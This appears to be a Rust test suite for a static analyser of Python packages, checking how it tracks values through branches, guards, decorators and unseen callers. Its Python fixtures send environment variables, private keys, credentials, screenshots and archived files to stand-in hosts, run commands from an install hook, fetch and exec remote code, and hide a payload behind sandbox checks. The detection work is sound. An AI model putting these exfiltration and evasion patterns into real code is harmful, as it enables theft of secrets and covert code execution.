//! Claims about values that branches leave behind, and about code whose callers are out of sight.

mod common;

use common::{analysis_of, calls, event, events_of};
use venin_model::{OriginKind, Role, Trigger};

const BRANCHES: &str = "\
import os, requests
class Context:
    def __init__(self):
        if os.environ.get('A') is not None:
            self.a = os.environ.get('A')
        else:
            self.a = 'empty'
        requests.get('https://collect.example/' + self.a)
Context()
";

#[test]
fn an_attribute_has_the_values_of_all_branches() {
    let event = event(BRANCHES, "requests.get");
    let urls = event.arguments.iter().filter(|a| a.role == Role::Url);
    let texts: Vec<String> = urls.filter_map(|a| Some(a.value.as_ref()?.text.to_string())).collect();
    assert!(texts.iter().any(|t| t.contains("os.environ")), "{texts:?}");
    assert!(texts.iter().any(|t| t.ends_with("/empty")), "{texts:?}");
}

#[test]
fn an_attribute_that_is_set_before_a_return_outlives_the_call() {
    let source = "\
import os, requests
class Context:
    def set(self):
        if os.environ.get('A'):
            self.a = 'https://collect.example/'
            return
        print(self)
c = Context()
c.set()
requests.get(c.a)
";
    assert_eq!(event(source, "requests.get").text(Role::Url), Some("https://collect.example/"));
}

#[test]
fn an_attribute_that_one_branch_leaves_open_is_what_the_other_fills() {
    let source = "\
import os, requests
class Context:
    def __init__(self):
        self.a = None
        if os.environ.get('A'):
            self.a = 'https://collect.example/'
        else:
            self.a = None
        requests.get(self.a)
Context()
";
    assert_eq!(event(source, "requests.get").text(Role::Url), Some("https://collect.example/"));
}

#[test]
fn a_text_of_more_alternatives_than_are_kept_shows_where_its_parts_come_from() {
    let source = "\
import os, requests
a = os.environ.get('A') if os.path.exists('a') else 'none'
b = os.environ.get('B') if os.path.exists('b') else 'none'
c = os.environ.get('C') if os.path.exists('c') else 'none'
d = os.environ.get('D') if os.path.exists('d') else 'none'
requests.get('https://collect.example/' + a + '/' + b + '/' + c + '/' + d)
";
    let event = event(source, "requests.get");
    let url = event.text(Role::Url).expect("something of the address is known");
    assert!(url.starts_with("https://collect.example/"), "{url}");
}

#[test]
fn a_function_that_turns_away_whoever_passes_nothing_is_run_with_something() {
    let source = "\
import requests
def from_key(private_key=None):
    if private_key is None:
        raise KeyError('no key')
    requests.get('https://collect.example/?k=' + private_key)
";
    let event = event(source, "requests.get");
    let url = event.argument(Role::Url).expect("there is an address");
    assert!(url.origins.kinds.contains(OriginKind::Argument));
}

#[test]
fn a_method_that_turns_away_whoever_passes_nothing_is_run_with_something() {
    let source = "\
import requests
class Wallet:
    def first(self):
        return 1
    def show(self, text=None):
        if text is None:
            return None
        requests.get('https://collect.example/?k=' + text)
";
    assert_eq!(events_of(source).iter().filter(|e| &*e.name == "requests.get").count(), 1);
}

#[test]
fn a_command_class_that_nothing_visible_registers_runs_at_installation() {
    let source = "\
import os
from setuptools import setup
from setuptools.command.install import install
class Command(install):
    def run(self):
        os.system('echo a')
setup(name='pkg')
";
    let events = analysis_of(&[("setup.py", source, Trigger::Install)]).events;
    let started = events.iter().find(|e| &*e.name == "os.system");
    assert_eq!(started.map(|e| e.trigger), Some(Trigger::Install));
}

#[test]
fn a_buffer_holds_what_is_saved_to_it_and_what_an_archive_on_it_packs() {
    for source in [
        "import io, pyautogui, requests\nb = io.BytesIO()\npyautogui.screenshot().save(b, 'PNG')\nrequests.post('https://a.example/', data=b.getvalue())",
        "import io, zipfile, requests\nb = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write('/srv/a')\nz.close()\nrequests.post('https://a.example/', data=b.getvalue())",
    ] {
        let events = events_of(source);
        let sent = events.iter().find(|e| &*e.name == "requests.post").expect("a request is sent");
        let data = sent.argument(Role::Data).expect("the request has data");
        let made = ["pyautogui.screenshot", "zipfile.ZipFile().write"];
        let carried =
            |name: &str| events.iter().any(|e| &*e.name == name && data.origins.events.contains(&e.id));
        assert!(made.iter().any(|name| carried(name)), "{source}: {data:?}");
    }
}

#[test]
fn a_secret_that_a_foreign_function_takes_for_nothing_is_an_event() {
    let source = "import zz_words\ndef a(mnemonic):\n    zz_words.decode(mnemonic)\ndef b(mnemonic):\n    return zz_words.encode(mnemonic)\n";
    let events = events_of(source);
    let taken: Vec<&str> =
        events.iter().filter(|e| e.argument(Role::Key).is_some()).map(|e| &*e.name).collect();
    assert_eq!(taken, ["zz_words.decode"]);
    let is_unused: Vec<bool> = events.iter().map(|e| e.is_unused).collect();
    assert_eq!(
        (calls(source), is_unused),
        (vec!["zz_words.decode".into(), "zz_words.encode".into()], vec![true, false])
    );
}

#[test]
fn a_check_that_is_false_on_one_way_and_open_on_the_other_hides_nothing() {
    let source = "\
import psutil, sys
def may_run():
    if psutil.cpu_count() < 3:
        return False
    return sys.gettrace() is None
if may_run():
    exec(open('stage').read())
";
    assert_eq!(event(source, "exec").trigger, Trigger::Import);
}

#[test]
fn a_flag_that_a_branch_may_have_set_hides_nothing() {
    let source = "\
import acme
is_ready = False
if acme.is_new():
    is_ready = acme.n_readers < 3
if is_ready:
    exec(open('stage').read())
";
    assert_eq!(event(source, "exec").trigger, Trigger::Import);
}

#[test]
fn a_decorator_takes_what_the_inner_one_made() {
    let source = "\
import urllib.request
@exec
@lambda answer: answer.read()
@urllib.request.urlopen
@lambda _: 'https://collect.example/stage'
def _(): ...
";
    let event = event(source, "exec");
    assert_eq!(event.text(Role::Code), Some("⟨urllib.request.urlopen().read()⟩"));
}

#[test]
fn the_rest_of_the_arguments_comes_from_the_caller() {
    let source = "\
import requests
def log_in(request=None, **credentials):
    requests.post('https://collect.example/', data=credentials)
";
    let event = event(source, "requests.post");
    let data = event.arguments.iter().find(|a| a.role == Role::Data);
    assert!(data.is_some_and(|a| a.origins.kinds.contains(OriginKind::Argument)), "{event:?}");
}

#[test]
fn what_had_to_hold_to_come_past_a_guard_is_a_condition_of_what_follows() {
    let source = "\
import os
def install():
    if input('Install?') != 'y':
        return
    os.system('echo')
def other():
    if input('Talk?') == 'y':
        print('talk')
    os.system('echo')
";
    let asked: Vec<bool> = events_of(source)
        .iter()
        .filter(|e| &*e.name == "os.system")
        .map(|e| e.conditions.iter().any(|c| c.subject.contains("input")))
        .collect();
    assert_eq!(asked, [true, false]);
}

#[test]
fn a_constant_that_the_only_caller_gives_decides_who_returns_early() {
    for (parameters, call) in
        [("skip", "True"), ("skip=True", ""), ("skip=False", "skip=True"), ("*skip", "1")]
    {
        let source = format!(
            "import os\ndef configure({parameters}):\n    if skip:\n        return\n    os.remove('a')\nconfigure({call})\n"
        );
        let unasked = events_of(&source).iter().any(|e| &*e.name == "os.remove" && e.trigger != Trigger::Run);
        assert!(!unasked, "{source}");
    }
    let open = "import os\ndef configure(skip=True):\n    if skip:\n        return\n    os.remove('a')\n\
                configure(os.environ.get('A'))\n";
    assert_eq!(event(open, "os.remove").trigger, Trigger::Import);
}
